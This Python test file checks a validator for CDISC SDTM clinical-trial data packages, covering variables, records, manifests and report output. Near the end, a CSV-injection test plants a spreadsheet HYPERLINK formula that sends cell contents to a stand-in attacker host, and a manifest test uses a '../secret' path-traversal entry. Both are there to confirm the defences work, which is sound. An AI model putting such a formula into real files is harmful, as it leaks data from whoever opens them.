"""tcim-interop validate: the shipped example's package is clean; each check finds the defect put into
a copy of it (dataset, row, variable, USUBJID and rule exactly); the CDISC pilot's known issues are found."""

import json
import shutil
from collections import Counter
from datetime import datetime
from pathlib import Path

import pytest
from conftest import ROOT, need_external
from typer.testing import CliRunner

from tcim_interop import read_sdtm, to_sdtm
from tcim_interop.cli import app
from tcim_interop.mapping_spec import sdtmig34
from tcim_interop.mapping_spec.load import load_mapping_set
from tcim_interop.sdtm import xpt
from tcim_interop.sdtm.dataset import Dataset, VariableMeta
from tcim_interop.validate import registry, validate_datasets, validate_package

CREATED = datetime(2024, 1, 1)


@pytest.fixture(scope="module")
def package(example_package) -> Path:
    return example_package


@pytest.fixture(scope="module")
def clean(package) -> dict[str, Dataset]:
    return read_sdtm(package)


@pytest.fixture(scope="module")
def define(package) -> bytes:
    return (package / "define.xml").read_bytes()


def edited(clean: dict[str, Dataset], name: str, edit=None, variables=None) -> dict[str, Dataset]:
    """A copy of the datasets whose `name` went through edit(frame)."""
    ds = clean[name]
    frame = ds.frame.copy()
    if edit is not None:
        edit(frame)
    out = dict(clean)
    out[name] = Dataset(ds.name, ds.label, list(variables or [v for v in ds.variables if v.name in frame.columns]),
                        frame)
    return out


def where(findings, rule):
    return [(f.domain, f.row, f.variable, f.usubjid) for f in findings if f.rule == rule]


def subject(clean, name, row):
    return clean[name].frame.at[row - 1, "USUBJID"]


# -- the clean package ------------------------------------------------------------------------------

def test_clean_package_has_no_finding(package):
    report = validate_package(package)
    assert report.datasets["DM"] == 100 and {"AE", "EX", "XM", "SUPPAE", "TS", "TA"} <= set(report.datasets)
    assert report.define == "define.xml" and not report.masked
    assert report.errors == [], [f.line() for f in report.errors[:5]]
    # the only findings: SDTMIG 3.4 Expected variables that mappings/ does not produce yet (one warning
    # per dataset and variable), and those are known gaps only: MedDRA's HLT/HLGT levels and ACTARMUD
    ms = load_mapping_set()
    gaps = {(s.domain, v.name) for s in ms.domains.values() if s.domain in report.datasets
            for v in sdtmig34.variables(s.domain) if v.core == "Exp" and v.name not in s.by_name}
    assert gaps <= {("AE", "AEHLT"), ("AE", "AEHLTCD"), ("AE", "AEHLGT"), ("AE", "AEHLGTCD"), ("DM", "ACTARMUD")}
    assert {(f.severity, f.rule, f.code, f.domain, f.variable) for f in report.findings} == {
        ("warning", "CORE-000334/CG0016", "MISSING_EXPECTED_VARIABLE", d, v) for d, v in gaps}
    assert len(report.findings) == len(gaps)


def test_every_check_is_registered_with_its_rules_and_documented():
    doc = (ROOT / "docs" / "validate.md").read_text(encoding="utf-8")
    checks = registry.all_checks()
    assert len(checks) >= 25
    for c in checks:
        assert c.rules and c.summary and registry.get(c.name) is c
        assert f"`{c.name}`" in doc, c.name
        for rule in c.rules:
            assert rule in doc, (c.name, rule)
    with pytest.raises(KeyError):
        registry.get("no_such_check")


# -- variables ---------------------------------------------------------------------------------------

def test_required_variable_missing_and_null(clean, mappings):
    findings = validate_datasets(edited(clean, "AE", lambda f: f.pop("AETERM")), mappings)
    assert where(findings, "CORE-000355/CG0014") == [("AE", None, "AETERM", "")]

    findings = validate_datasets(edited(clean, "AE", lambda f: f.__setitem__("AEDECOD", f["AEDECOD"].where(f.index != 2, ""))),
                                 mappings)
    assert where(findings, "CORE-000356/CG0014") == [("AE", 3, "AEDECOD", subject(clean, "AE", 3))]


def test_arm_variables_relaxed_to_expected_as_in_sdtmig_34(clean, mappings):
    # the screen failure has no ARMCD: SDTMIG 3.4 makes the arm variables Exp, the spec's Req gives way
    dm = clean["DM"].frame
    assert (dm["ARMCD"] == "").any()
    assert where(validate_datasets(clean, mappings, checks=["required_values"]), "CORE-000356/CG0014") == []


def test_expected_variable_missing(clean, mappings):
    before = set(where(validate_datasets(clean, mappings), "CORE-000334/CG0016"))
    findings = validate_datasets(edited(clean, "DM", lambda f: f.pop("RFICDTC")), mappings)
    assert [w for w in where(findings, "CORE-000334/CG0016") if w not in before] == [("DM", None, "RFICDTC", "")]
    assert {f.severity for f in findings if f.rule == "CORE-000334/CG0016"} == {"warning"}


def test_controlled_terminology_non_extensible_error_extensible_warning(clean, mappings):
    data = edited(clean, "DM", lambda f: f.__setitem__("SEX", f["SEX"].where(f.index != 0, "X")))
    data = edited(data, "EX", lambda f: f.__setitem__("EXROUTE", f["EXROUTE"].where(f.index != 4, "INTRAVENOUS")))
    findings = [f for f in validate_datasets(data, mappings) if f.rule == "SDTMIG-4.3/CT"]
    assert [(f.severity, f.domain, f.row, f.variable, f.value) for f in findings] == [
        ("error", "DM", 1, "SEX", "X"), ("warning", "EX", 5, "EXROUTE", "INTRAVENOUS")]
    assert findings[0].usubjid == subject(clean, "DM", 1)


def test_iso8601_dates(clean, mappings):
    data = edited(clean, "AE", lambda f: f.__setitem__("AEENDTC", f["AEENDTC"].where(f.index != 1, "2021-13-01")))
    assert where(validate_datasets(data, mappings), "CORE-000547") == [("AE", 2, "AEENDTC", subject(clean, "AE", 2))]


# -- records -----------------------------------------------------------------------------------------

def test_seq_unique_per_subject(clean, mappings):
    ae = clean["AE"].frame
    assert ae.at[0, "USUBJID"] == ae.at[1, "USUBJID"]
    data = edited(clean, "AE", lambda f: f.__setitem__("AESEQ", f["AESEQ"].where(f.index != 1, f.at[0, "AESEQ"])))
    assert where(validate_datasets(data, mappings), "CORE-000750") == [("AE", 2, "AESEQ", subject(clean, "AE", 2))]


def test_usubjid_not_in_dm(clean, mappings):
    data = edited(clean, "XM", lambda f: f.__setitem__("USUBJID", f["USUBJID"].where(f.index != 9, "TCIM-ELAII-01-999")))
    assert where(validate_datasets(data, mappings), "CORE-000201/CG0029") == [("XM", 10, "USUBJID", "TCIM-ELAII-01-999")]


def test_dm_present_and_one_record_per_subject(clean, mappings):
    without = {n: d for n, d in clean.items() if n != "DM"}
    assert where(validate_datasets(without, mappings), "CORE-000581/CG0368") == [("", None, "", "")]
    twice = edited(clean, "DM", lambda f: f.__setitem__("USUBJID", f["USUBJID"].where(f.index != 4, f.at[3, "USUBJID"])))
    assert where(validate_datasets(twice, mappings), "CORE-000351/CG0151") == [("DM", 5, "USUBJID", subject(clean, "DM", 4))]


def test_study_day(clean, mappings):
    data = edited(clean, "EX", lambda f: f.__setitem__("EXSTDY", f["EXSTDY"].where(f.index != 0, 0.0)))
    assert where(validate_datasets(data, mappings), "CORE-000529/CG0006") == [("EX", 1, "EXSTDY", subject(clean, "EX", 1))]


def test_study_day_from_a_partial_date(clean, mappings):
    def partial(f):
        f.at[0, "AESTDTC"] = f.at[0, "AESTDTC"][:7]  # "2021-07": AESTDY must be null
    findings = validate_datasets(edited(clean, "AE", partial), mappings)
    assert where(findings, "CORE-000138/CG0221") == [("AE", 1, "AESTDY", subject(clean, "AE", 1))]
    assert where(findings, "CORE-000529/CG0006") == []


def test_start_after_end(clean, mappings):
    ae = clean["AE"].frame
    row = int(ae.index[ae["AEENDTC"] != ""][0])
    data = edited(clean, "AE", lambda f: f.__setitem__("AEENDTC", f["AEENDTC"].where(f.index != row, "2000-01-01")))
    findings = validate_datasets(data, mappings)
    assert where(findings, "CORE-000718/FB3209") == [("AE", row + 1, "AEENDTC", subject(clean, "AE", row + 1))]


def test_studyid_and_domain(clean, mappings):
    data = edited(clean, "EX", lambda f: f.__setitem__("STUDYID", f["STUDYID"].where(f.index != 2, "OTHER")))
    assert where(validate_datasets(data, mappings), "CORE-000172/CG0409") == [("EX", 3, "STUDYID", subject(clean, "EX", 3))]
    data = edited(clean, "EX", lambda f: f.__setitem__("DOMAIN", f["DOMAIN"].where(f.index != 2, "AE")))
    assert where(validate_datasets(data, mappings), "CORE-000598/CG0413") == [("EX", 3, "DOMAIN", subject(clean, "EX", 3))]


# -- AE ----------------------------------------------------------------------------------------------

def test_serious_criteria_both_ways(clean, mappings):
    ae = clean["AE"].frame
    serious = int(ae.index[ae["AESER"] == "Y"][0])
    mild = int(ae.index[ae["AESER"] == "N"][0])

    def edit(f):
        for c in ("AESCONG", "AESDISAB", "AESDTH", "AESHOSP", "AESLIFE", "AESMIE"):
            f.at[serious, c] = "N"
        f.at[mild, "AESLIFE"] = "Y"
    findings = validate_datasets(edited(clean, "AE", edit), mappings)
    assert where(findings, "CORE-000266/CG0042") == [("AE", serious + 1, "AESER", subject(clean, "AE", serious + 1))]
    assert where(findings, "CORE-000022/CG0041") == [("AE", mild + 1, "AESER", subject(clean, "AE", mild + 1))]


# -- DM ----------------------------------------------------------------------------------------------

def test_arm_not_in_ta_and_no_ta(clean, mappings):
    data = edited(clean, "DM", lambda f: f.__setitem__("ACTARMCD", f["ACTARMCD"].where(f.index != 0, "XYZ")))
    assert where(validate_datasets(data, mappings), "CORE-000208/CG0512") == [("DM", 1, "ACTARMCD", subject(clean, "DM", 1))]
    no_ta = {n: d for n, d in clean.items() if n != "TA"}
    findings = [f for f in validate_datasets(no_ta, mappings) if f.code == "NO_TA"]
    assert [(f.severity, f.rule, f.domain) for f in findings] == [("warning", "CORE-000210/CG0516", "DM")]


def test_armnrs_if_and_only_if_an_arm_is_null(clean, mappings):
    dm = clean["DM"].frame
    failure = int(dm.index[dm["ARMNRS"] == "SCREEN FAILURE"][0])
    data = edited(clean, "DM", lambda f: (f.__setitem__("ARMNRS", f["ARMNRS"].where(f.index != failure, "")),
                                          f.__setitem__("ARMNRS", f["ARMNRS"].where(f.index != 0, "NOT ASSIGNED"))))
    findings = validate_datasets(data, mappings)
    assert where(findings, "CORE-000045/CG0517") == [("DM", failure + 1, "ARMNRS", subject(clean, "DM", failure + 1))]
    assert where(findings, "CORE-000121/CG0520") == [("DM", 1, "ARMNRS", subject(clean, "DM", 1))]


def test_death_and_age(clean, mappings):
    def edit(f):
        f.at[0, "DTHDTC"] = "2022-01-01"
        f.at[1, "AGEU"] = ""
    findings = validate_datasets(edited(clean, "DM", edit), mappings)
    assert where(findings, "CORE-000007/CG0435") == [("DM", 1, "DTHFL", subject(clean, "DM", 1))]
    assert where(findings, "CORE-000189/CG0665") == [("DM", 2, "AGEU", subject(clean, "DM", 2))]


def test_reference_start_is_first_exposure(clean, mappings):
    data = edited(clean, "DM", lambda f: f.__setitem__("RFXSTDTC", f["RFXSTDTC"].where(f.index != 0, "2021-06-30")))
    assert where(validate_datasets(data, mappings), "CORE-000239/CG0148") == [("DM", 1, "RFXSTDTC", subject(clean, "DM", 1))]


# -- masked packages ---------------------------------------------------------------------------------

def test_masked_package_with_ex_is_an_error(clean, mappings):
    findings = validate_datasets(clean, mappings, masked=True, checks=["masking"])
    assert any(f.code == "MASKED_WITH_EX" and f.domain == "EX" and f.severity == "error" for f in findings)


def test_masked_arms_expected_in_a_masked_package_only(clean, mappings):
    def mask(f):
        arms = f["ARMNRS"] == ""
        for v in ("ARMCD", "ARM", "ACTARMCD", "ACTARM"):
            f[v] = ""
        f.loc[arms, "ARMNRS"] = "MASKED"
    data = {n: d for n, d in edited(clean, "DM", mask).items() if n != "EX"}
    checks = ["controlled_terminology", "arm_null_reason", "masking", "required_values"]
    assert [f for f in validate_datasets(data, mappings, masked=True, checks=checks) if f.severity == "error"] == []
    unmasked = validate_datasets(data, mappings, masked=False, checks=checks)
    assert {(f.code, f.variable) for f in unmasked} == {("MASKED_VALUE_UNMASKED", "ARMNRS")}


def test_manifest_option_masked_is_read(package, tmp_path, clean):
    copy = tmp_path / "sdtm"
    shutil.copytree(package, copy)
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["options"]["masked"] = True
    (copy / "manifest.json").write_text(json.dumps(manifest))
    report = validate_package(copy, checks=["masking"])
    assert report.masked
    assert Counter(f.code for f in report.errors) == {"MASKED_WITH_EX": 1,
                                                      "MASKED_ARM_SHOWN": (clean["DM"].frame["ARMCD"] != "").sum()}


def test_masked_package_from_to_sdtm_is_clean(tmp_path):
    import inspect

    if "masked" not in inspect.signature(to_sdtm).parameters:
        pytest.skip("to_sdtm has no masked option in this version")
    out = tmp_path / "masked"
    to_sdtm([ROOT / "tests" / "data" / "mini-r4.json"], out, masked=True)
    report = validate_package(out)
    assert report.masked and "EC" in report.datasets and "EX" not in report.datasets
    # the mini bundle's first adverse event has no MedDRA coding: AEDECOD (Req) is null, nothing else is wrong
    assert [(f.rule, f.domain, f.row, f.variable) for f in report.errors] == [("CORE-000356/CG0014", "AE", 1, "AEDECOD")]


# -- SUPPxx ------------------------------------------------------------------------------------------

def test_supp_parent_record_and_qnam_unique(clean, mappings):
    data = edited(clean, "SUPPAE", lambda f: f.__setitem__("IDVARVAL", f["IDVARVAL"].where(f.index != 0, "999")))
    assert where(validate_datasets(data, mappings), "CORE-000206/CG0371") == [("SUPPAE", 1, "IDVARVAL", subject(clean, "SUPPAE", 1))]

    import pandas as pd

    dup = edited(clean, "SUPPAE", lambda f: None)
    frame = pd.concat([dup["SUPPAE"].frame, dup["SUPPAE"].frame.iloc[[1]]], ignore_index=True)
    dup["SUPPAE"] = Dataset("SUPPAE", clean["SUPPAE"].label, clean["SUPPAE"].variables, frame)
    n = len(frame)
    assert where(validate_datasets(dup, mappings), "CORE-000203/CG0411") == [("SUPPAE", n, "QNAM", subject(clean, "SUPPAE", 2))]


def test_supp_rdomain_must_name_the_dataset(clean, mappings):
    data = edited(clean, "SUPPAE", lambda f: f.__setitem__("RDOMAIN", f["RDOMAIN"].where(f.index != 0, "EX")))
    assert where(validate_datasets(data, mappings), "CORE-000538/CG0334") == [("SUPPAE", 1, "RDOMAIN", subject(clean, "SUPPAE", 1))]


# -- trial design ------------------------------------------------------------------------------------

def test_trial_design_rules(clean, mappings):
    data = edited(clean, "TS", lambda f: f.__setitem__("TSVAL", f["TSVAL"].where(f.index != 1, "")))
    assert where(validate_datasets(data, mappings), "CORE-000583") == [("TS", 2, "TSVAL", "")]
    data = edited(clean, "TA", lambda f: f.__setitem__("ETCD", f["ETCD"].where(f.index != 1, "ZZZ")))
    findings = validate_datasets(data, mappings)
    assert where(findings, "CORE-000173/CG0414") == [("TA", 2, "ETCD", "")]
    data = edited(clean, "TV", lambda f: f.__setitem__("VISITNUM", f["VISITNUM"].where(f.index != 1, f.at[0, "VISITNUM"])))
    assert where(validate_datasets(data, mappings), "TCIM-TVKEY") == [("TV", 2, "VISITNUM", "")]
    data = edited(clean, "TE", lambda f: (f.__setitem__("TEENRL", ""), f.__setitem__("TEDUR", f["TEDUR"].where(f.index != 2, ""))))
    assert where(validate_datasets(data, mappings), "CORE-000027/CG0328") == [("TE", 3, "TEENRL", "")]


def test_epoch_must_be_an_epoch_of_ta(clean, mappings):
    data = edited(clean, "AE", lambda f: f.__setitem__("EPOCH", ["TREATMENT"] + ["NO SUCH EPOCH"] + [""] * (len(f) - 2)))
    epochs = set(clean["TA"].frame["EPOCH"])
    findings = where(validate_datasets(data, mappings, checks=["epoch_in_ta"]), "CORE-000271/CG0009")
    assert ("AE", 2, "EPOCH", subject(clean, "AE", 2)) in findings
    assert (("AE", 1, "EPOCH", subject(clean, "AE", 1)) in findings) == ("TREATMENT" not in epochs)


# -- XPT and define.xml ------------------------------------------------------------------------------

def test_xpt_constraints_reuse_the_writers_checks(clean, mappings):
    long_label = [VariableMeta(v.name, "An AE term label that is far longer than forty" if v.name == "AETERM" else v.label,
                               v.type, v.core) for v in clean["AE"].variables]
    data = edited(clean, "AE", lambda f: f.__setitem__("AETERM", f["AETERM"].where(f.index != 3, "x" * 201)),
                  variables=long_label)
    findings = [f for f in validate_datasets(data, mappings, checks=["xpt_constraints"])]
    assert [(f.rule, f.code, f.row, f.variable) for f in findings] == [
        ("CORE-000019/CG0311", "XPT_LABEL", None, "AETERM"), ("TCIM-XPT", "XPT_TOO_LONG", 4, "AETERM")]
    assert findings[1].usubjid == subject(clean, "AE", 4)
    named = validate_datasets(clean, mappings, files={"DM": "demog.xpt"}, checks=["xpt_constraints"])
    assert [(f.code, f.domain, f.value) for f in named] == [("XPT_FILE_NAME", "DM", "demog.xpt")]


def test_define_consistency(clean, mappings, define):
    assert validate_datasets(clean, mappings, define, checks=["define_datasets", "define_variables"]) == []
    data = {n: d for n, d in edited(clean, "AE", lambda f: f.pop("AESPID")).items() if n != "TI"}
    findings = validate_datasets(data, mappings, define, checks=["define_datasets", "define_variables"])
    assert sorted((f.code, f.domain, f.variable) for f in findings) == [
        ("DEFINE_DATASET_ABSENT", "TI", ""), ("DEFINE_VARIABLE_ABSENT", "AE", "AESPID")]

    def longer(f):
        f.at[0, "AETERM"] = "y" * 300
    findings = validate_datasets(edited(clean, "AE", longer), mappings, define, checks=["define_variables"])
    assert [(f.code, f.variable, f.severity) for f in findings] == [("DEFINE_LENGTH_SHORT", "AETERM", "error")]

    ae = clean["AE"]
    order = [ae.variables[1], ae.variables[0]] + ae.variables[2:]
    swapped = dict(clean, AE=Dataset("AE", ae.label, order, ae.frame[[v.name for v in order]]))
    findings = validate_datasets(swapped, mappings, define, checks=["define_variables"])
    assert [f.code for f in findings] == ["DEFINE_VARIABLE_ORDER"]


# -- files on disk: XPT rewritten, Dataset-JSON, the command ------------------------------------------

def broken_copy(package: Path, tmp_path: Path, name: str, edit) -> Path:
    """A copy of the package whose `name`.xpt is rewritten after edit(frame)."""
    from tcim_interop.sdtm.read import read_xpt

    copy = tmp_path / "broken"
    shutil.copytree(package, copy)
    ds = read_xpt(copy / f"{name.lower()}.xpt")
    edit(ds.frame)
    xpt.write(ds, ds.frame, copy / f"{name.lower()}.xpt", CREATED)
    return copy


def test_command_exit_codes_and_reports(package, tmp_path, clean):
    runner = CliRunner()
    out = tmp_path / "reports"
    own = (package / "validation-report.json").read_bytes()  # the one to-sdtm wrote into the package
    result = runner.invoke(app, ["validate", str(package), "--out", str(out)])
    assert result.exit_code == 0, result.output
    doc = json.loads((out / "validation-report.json").read_text())
    # no error; the warnings are the SDTMIG Expected variables the specs do not produce yet (see above)
    assert doc["findings_by_severity"]["error"] == doc["findings_by_severity"]["info"] == 0
    assert set(doc["findings_by_rule"]) <= {"CORE-000334/CG0016"}
    assert (package / "validation-report.json").read_bytes() == own  # --out leaves the package alone

    broken = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESER", f["AESER"].where(f.index != 0, "Y")))
    result = runner.invoke(app, ["validate", str(broken)])
    assert result.exit_code == 1
    assert "CORE-000266/CG0042" in result.output and "2 error(s)" in result.output  # and ae.xpt's sha256
    rows = (tmp_path / "broken-validation" / "validation-report.csv").read_text().splitlines()
    rows = [r for r in rows if not r.startswith("warning,")]
    assert rows[0] == "severity,rule,code,dataset,row,usubjid,variable,value,message,file"
    assert rows[1].startswith("error,TCIM-MANIFEST,MANIFEST_SHA256,,,,,") and rows[1].endswith(",ae.xpt")
    assert rows[2].startswith(f"error,CORE-000266/CG0042,SERIOUS_WITHOUT_CRITERION,AE,1,{subject(clean, 'AE', 1)},AESER,Y,")
    assert rows[2].endswith(",ae.xpt")

    result = runner.invoke(app, ["validate", str(tmp_path / "nowhere")])
    assert result.exit_code == 2 and "nowhere" in result.output and "Traceback" not in result.output


def test_dataset_json_package(package, tmp_path, clean, mappings):
    from tcim_interop.sdtm.dataset_json import write_dataset_json

    copy = tmp_path / "json"
    copy.mkdir()
    for n, ds in clean.items():
        if n == "DM":
            frame = ds.frame.copy()
            frame.at[2, "RFICDTC"] = "02/07/2021"
            frame.at[3, "SEX"] = "Hombre"
            ds = Dataset(ds.name, ds.label, ds.variables, frame)
        write_dataset_json(ds, copy / f"{n.lower()}.json", study_oid="S", created=CREATED)
    report = validate_package(copy)
    errors = sorted((f.rule, f.domain, f.row, f.variable, f.file) for f in report.errors)
    assert errors == [("CORE-000547", "DM", 3, "RFICDTC", "dm.json"), ("SDTMIG-4.3/CT", "DM", 4, "SEX", "dm.json")]
    assert [f.code for f in report.findings if f.severity == "warning" and f.code != "MISSING_EXPECTED_VARIABLE"] \
        == ["NO_DEFINE"]


def test_a_damaged_dataset_json_twin_is_an_error_for_validate_only(package, tmp_path):
    """Beside its XPT, a Dataset-JSON file is read by validate (a damaged file is an error even where its
    twin is sound) and skipped by the readers that take the XPT (to-fhir, the review report)."""
    from tcim_interop.errors import InputError
    from tcim_interop.sdtm.read import read_package

    copy = tmp_path / "pkg"
    shutil.copytree(package, copy)
    (copy / "dm.json").write_text("{not json", encoding="utf-8")
    datasets, files = read_package(copy)
    assert files["DM"] == "dm.xpt" and len(datasets["DM"].frame) == 100
    with pytest.raises(InputError, match="dm.json"):
        read_package(copy, every_file=True)
    with pytest.raises(InputError, match="dm.json"):
        validate_package(copy)


# -- the manifest --------------------------------------------------------------------------------------

def manifest_findings(directory):
    return sorted((f.severity, f.code, f.file) for f in validate_package(directory, checks=["manifest"]).findings)


def test_manifest_verifies_every_listed_file_and_lists_every_file(package, tmp_path):
    copy = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESER", f["AESER"].where(f.index != 0, "Y")))
    assert (copy / "ae.xpt").stat().st_size == (package / "ae.xpt").stat().st_size  # same size, other bytes
    (copy / "te.xpt").unlink()
    with (copy / "define.html").open("a", encoding="utf-8") as f:
        f.write("<!-- edited -->")
    shutil.copy(copy / "dm.xpt", copy / "dm2.xpt")
    for name in ("notes.csv", "extra.xml", "README.txt", ".ae.xpt.tmp"):
        (copy / name).write_text("x")
    assert manifest_findings(copy) == [
        ("error", "MANIFEST_BYTES", "define.html"), ("error", "MANIFEST_MISSING", "te.xpt"),
        ("error", "MANIFEST_SHA256", "ae.xpt"), ("error", "MANIFEST_UNLISTED", "dm2.xpt"),
        ("error", "MANIFEST_UNLISTED", "extra.xml"), ("error", "MANIFEST_UNLISTED", "notes.csv")]
    assert all(f.rule == "TCIM-MANIFEST" for f in validate_package(copy, checks=["manifest"]).findings)


def test_manifest_never_leads_outside_the_package(package, tmp_path):
    copy = tmp_path / "sdtm"
    shutil.copytree(package, copy)
    (tmp_path / "secret").write_text("x")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["outputs"].append({"path": "../secret", "sha256": "0" * 64, "bytes": 1})
    (copy / "manifest.json").write_text(json.dumps(manifest))
    assert manifest_findings(copy) == [("error", "MANIFEST_PATH", "../secret")]


def test_package_without_manifest_cannot_be_verified_and_is_still_checked(package, tmp_path):
    copy = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESER", f["AESER"].where(f.index != 0, "Y")))
    (copy / "manifest.json").unlink()
    report = validate_package(copy)
    assert [(f.severity, f.code, f.rule) for f in report.findings if f.code.startswith("MANIFEST")] == [
        ("info", "MANIFEST_ABSENT", "TCIM-MANIFEST")]
    assert [f.rule for f in report.errors] == ["CORE-000266/CG0042"]


def test_manifest_without_a_list_of_outputs_is_unreadable(package, tmp_path):
    copy = tmp_path / "sdtm"
    shutil.copytree(package, copy)
    (copy / "manifest.json").write_text(json.dumps({"options": {}, "outputs": [{"path": "ae.xpt"}]}))
    result = CliRunner().invoke(app, ["validate", str(copy), "--out", str(tmp_path / "reports")])
    assert result.exit_code == 2 and "manifest.json: not a readable manifest" in result.output


def test_to_sdtm_does_not_check_a_manifest_it_has_not_written_yet(package):
    doc = json.loads((package / "validation-report.json").read_text())
    assert "manifest" not in doc["checks"] and "xpt_constraints" not in doc["checks"]


# -- the CDISC pilot ---------------------------------------------------------------------------------

# What validate reports on ../shared/external/cdiscpilot01 (SDTMIG 3.1.2 data held to 3.4), per rule
PILOT_COUNTS = {
    ("CORE-000210/CG0516", "error"): 52,   # screen failures with ARMCD Scrnfail, not an arm of TA
    ("CORE-000208/CG0512", "error"): 52,
    ("CORE-000022/CG0041", "error"): 36,   # a criterion flag Y but AESER = N
    ("CORE-000334/CG0016", "warning"): 7,  # 3.4's Expected variables absent: ARMNRS, ACTARMUD, SVPRESP, SVOCCUR, TSVALCD...
    ("CORE-000238/CG0147", "error"): 6,    # RFXENDTC is not the last EX date
    ("TCIM-XPT", "error"): 3,              # TSVAL with cp1252 quotes: not ASCII
    ("CORE-000529/CG0006", "error"): 1,    # AESTDY 366 for an AE on day 1
    ("TCIM-DEFINE", "error"): 9,           # define.xml describes datasets the folder does not have
    ("TCIM-DEFINE", "warning"): 57,        # define lengths longer than the longest value
    ("TCIM-TSPARM", "warning"): 1,
    ("TCIM-MANIFEST", "info"): 1,          # no manifest.json: the files cannot be verified by checksum
}


def test_cdisc_pilot():
    pilot = need_external("cdiscpilot01")
    report = validate_package(pilot)
    counts = Counter((f.rule, f.severity) for f in report.findings)
    assert dict(counts) == PILOT_COUNTS
    day = [f for f in report.findings if f.rule == "CORE-000529/CG0006"][0]
    assert (day.domain, day.row, day.usubjid, day.variable, day.value) == ("AE", 971, "01-716-1063", "AESTDY", "366")
    assert sorted(f.row for f in report.findings if f.rule == "TCIM-XPT") == [9, 14, 29]
    assert ("DM", None, "ARMNRS", "") in where(report.findings, "CORE-000334/CG0016")
    assert ("DM", None, "ACTARMUD", "") in where(report.findings, "CORE-000334/CG0016")


# -- where the reports go: never over the package's files -------------------------------------------------

def checksums(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in directory.iterdir()}


def test_reports_go_beside_the_package_by_default(package, tmp_path):
    copy = tmp_path / "sdtm"
    shutil.copytree(package, copy)
    before = checksums(copy)
    result = CliRunner().invoke(app, ["validate", f"{copy}/"])
    assert result.exit_code == 0, result.output
    assert checksums(copy) == before  # not a byte of the package changed, no file added
    reports = tmp_path / "sdtm-validation"
    assert sorted(p.name for p in reports.iterdir()) == ["validation-report.csv", "validation-report.json"]
    assert json.loads((reports / "validation-report.json").read_text())["findings_by_severity"]["error"] == 0


def test_out_the_package_itself_is_refused_when_it_would_overwrite_a_listed_file(package, tmp_path):
    copy = tmp_path / "sdtm"
    shutil.copytree(package, copy)
    before = checksums(copy)
    result = CliRunner().invoke(app, ["validate", str(copy), "--out", str(copy / ".")])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert len(result.output.splitlines()) == 1 and "validation-report.json" in result.output, result.output
    assert checksums(copy) == before

    (copy / "manifest.json").unlink()  # nothing to overwrite that a manifest lists: --out may be the package
    result = CliRunner().invoke(app, ["validate", str(copy), "--out", str(copy)])
    assert result.exit_code == 0, result.output
    assert json.loads((copy / "validation-report.json").read_text())["checks"][-1] == "manifest"


def test_reports_that_cannot_be_written_are_one_line_and_leave_no_temporary_file(package, tmp_path):
    (tmp_path / "taken").write_text("a file, not a directory")
    result = CliRunner().invoke(app, ["validate", str(package), "--out", str(tmp_path / "taken")])
    assert result.exit_code == 2 and len(result.output.splitlines()) == 1 and "taken" in result.output
    out = tmp_path / "reports"
    assert CliRunner().invoke(app, ["validate", str(package), "--out", str(out), "-q"]).exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["validation-report.csv", "validation-report.json"]


# -- CSV injection -------------------------------------------------------------------------------------

@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_that_a_spreadsheet_would_run_is_quoted(start):
    from tcim_interop.csv_safety import safe_cell

    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_cells_that_are_not_formulas_are_kept():
    from tcim_interop.csv_safety import safe_cell

    assert [safe_cell(v) for v in ("HEADACHE", "a=b", " =1", "", None, 3, "'quoted")] == [
        "HEADACHE", "a=b", " =1", "", "", "3", "'quoted"]
    assert safe_cell("-1") == "'-1" and safe_cell(-1) == "'-1"  # OWASP: numbers too, no guessing


def test_formula_in_a_crafted_package_is_neutralised_in_the_csv_and_raw_in_the_json(package, tmp_path):
    import csv

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    crafted = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESEV", f["AESEV"].where(f.index != 0, formula)))
    out = tmp_path / "reports"
    result = CliRunner().invoke(app, ["validate", str(crafted), "--out", str(out)])
    assert result.exit_code == 1, result.output
    with (out / "validation-report.csv").open(encoding="utf-8", newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["rule"] == "SDTMIG-4.3/CT"]
    assert [r["value"] for r in rows] == ["'" + formula]
    doc = json.loads((out / "validation-report.json").read_text(encoding="utf-8"))
    assert [f["value"] for f in doc["findings"] if f["rule"] == "SDTMIG-4.3/CT"] == [formula]
